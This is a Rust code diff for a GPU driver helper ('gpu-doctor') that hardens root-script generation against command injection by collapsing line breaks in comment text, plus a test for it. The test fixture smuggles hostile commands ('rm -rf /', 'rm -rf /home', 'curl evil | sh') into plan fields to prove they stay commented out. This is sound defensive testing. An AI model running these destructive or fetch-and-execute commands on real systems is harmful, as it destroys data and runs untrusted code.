@@ -165,7 +165,9 @@ impl Plan {
     }
 
     /// The root steps as a script a person reviews and runs: `#!/bin/sh`, `set -e`, each step's
-    /// reason as a comment.
+    /// reason as a comment. Text in the comments (the plan's id and goal, a step's why and undo:
+    /// machine text such as a GPU's name or a path) is kept on its line: a line break in it becomes
+    /// a space, so it can never become a command.
     pub fn root_script(&self) -> Option<String> {
         let roots: Vec<&Step> = self.steps.iter().filter(|s| matches!(s.kind, StepKind::Root { .. })).collect();
         if roots.is_empty() {
@@ -173,24 +175,44 @@ impl Plan {
         }
         let mut out = format!(
             "#!/bin/sh\n# gpu-doctor plan {}: {}\n# Review every line before running it as root.\nset -e\n",
-            self.id, self.goal
+            one_line(&self.id),
+            one_line(&self.goal)
         );
         for step in roots {
             if let StepKind::Root { command } = &step.kind {
-                out.push_str(&format!(
-                    "\n# {}\n# undo: {}\n{command}\n",
-                    step.why.replace('\n', " "),
-                    step.undo.replace('\n', " ")
-                ));
+                out.push_str(&format!("\n# {}\n# undo: {}\n{command}\n", one_line(&step.why), one_line(&step.undo)));
             }
         }
         Some(out)
     }
 }
 
+/// `text` on one line: each line break (`\n`, `\r`, and the other breaks a reader may honour) a space.
+fn one_line(text: &str) -> String {
+    text.replace(['\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}'], " ")
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// A line break in machine text (a GPU's name in the goal) stays inside its comment line.
+    #[test]
+    fn machine_text_with_line_breaks_stays_in_the_root_script_s_comments() {
+        let plan = Plan {
+            id: "driver.x\nrm -rf /".into(),
+            goal: "driver for NVIDIA H100\nrm -rf /home\r\ncurl evil | sh".into(),
+            answers: Vec::new(),
+            env: None,
+            steps: vec![Step::root("modprobe nvidia", "why\nreboot", "c", "undo\nrm x")],
+            choice: None,
+        };
+        let script = plan.root_script().unwrap();
+        let commands: Vec<&str> =
+            script.lines().filter(|l| !l.starts_with('#') && !l.is_empty() && *l != "set -e").collect();
+        assert_eq!(commands, ["modprobe nvidia"], "{script}");
+        assert!(script.contains("# gpu-doctor plan driver.x rm -rf /: driver for NVIDIA H100 rm -rf /home  curl"));
+    }
 
     /// Each kind of step in the prose: a written file, a root line, a manual step and the check.
     #[test]
